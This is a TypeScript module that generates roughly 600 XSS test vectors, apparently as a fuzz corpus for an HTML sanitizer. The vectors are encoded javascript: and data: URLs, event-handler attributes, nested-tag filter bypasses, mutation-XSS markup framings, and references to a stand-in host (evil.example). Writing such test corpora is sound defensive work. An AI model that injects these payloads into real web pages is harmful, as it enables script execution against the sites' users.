/** Ways to write a character of markup or of an address, as browsers understand them. */
const encodings: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => [...text].map((one, index) => (index % 2 === 0 ? one.toUpperCase() : one)).join(""),
  (text) => [...text].map((one) => `&#${one.codePointAt(0)};`).join(""),
  (text) => [...text].map((one) => `&#x${one.codePointAt(0)?.toString(16)}`).join(";") + ";",
  (text) => `${text.slice(0, 4)}\t${text.slice(4, 6)}\n${text.slice(6)}`,
  (text) => `\u0001 ${text}`,
  (text) => text.replace(":", "&colon;"),
];

const addresses = ["javascript:alert(1)", "vbscript:x", "data:text/html,<script>alert(1)</script>", "//evil.example/x"];

/** Opening tags into which attributes are put. */
const elements = [
  "a",
  "A",
  "p",
  "img",
  "svg",
  "svg/a",
  "math",
  "iframe",
  "form",
  "input",
  "object",
  "base",
  "link",
  "meta",
  "video",
  "details",
  "x-foo",
];

const attributes = (address: string): string[] => [
  `href="${address}"`,
  `href='${address}'`,
  `xlink:href="${address}"`,
  `src="${address}"`,
  `action="${address}"`,
  `formaction="${address}"`,
  `srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"`,
  `style="background:url(${address})"`,
];

const handlers = [
  "onerror=alert(1)",
  "onload='alert(1)'",
  'OnFocus="alert(1)" autofocus',
  "ontoggle\n=\nalert(1) open",
  "/onclick=alert(1)/",
];

/** Markup around a payload, which parsers read in different ways. */
const frames: readonly ((inner: string) => string)[] = [
  (inner) => inner,
  (inner) => `<p>${inner}</p>`,
  (inner) => `<svg><style>${inner}</style></svg>`,
  (inner) => `<math><mtext><table><mglyph><style><!--</style>${inner}`,
  (inner) => `<!--><p>${inner}-->`,
  (inner) => `<noscript><p title="</noscript>${inner}">`,
  (inner) => `<textarea></textarea>${inner}<xmp>${inner}</xmp>`,
  (inner) => `<template>${inner}</template><![CDATA[${inner}]]>`,
  (inner) => `<a title="${inner}">${inner}`,
  (inner) => `<<b>${inner}<`,
];

/**
 * Returns about 600 hostile descriptions, always the same: elements with addresses in different encodings, elements
 * with handlers, and both inside of markup that parsers disagree about.
 */
export function htmlVectors(): string[] {
  const payloads: string[] = [];
  for (const [index, element] of elements.entries()) {
    for (const [turn, address] of addresses.entries()) {
      for (const [number, encode] of encodings.entries()) {
        // Each encoding meets each element and address; the attribute changes from one to the next.
        const all = attributes(encode(address));
        payloads.push(`<${element} ${all[(index + turn + number) % all.length]}>x</${element}>`);
      }
    }
    for (const handler of handlers) payloads.push(`<${element} ${handler}>x`);
  }
  payloads.push(
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<style>@import '//evil'</style>",
  );
  return payloads.map((payload, index) => frames[index % frames.length]?.(payload) ?? payload);
}
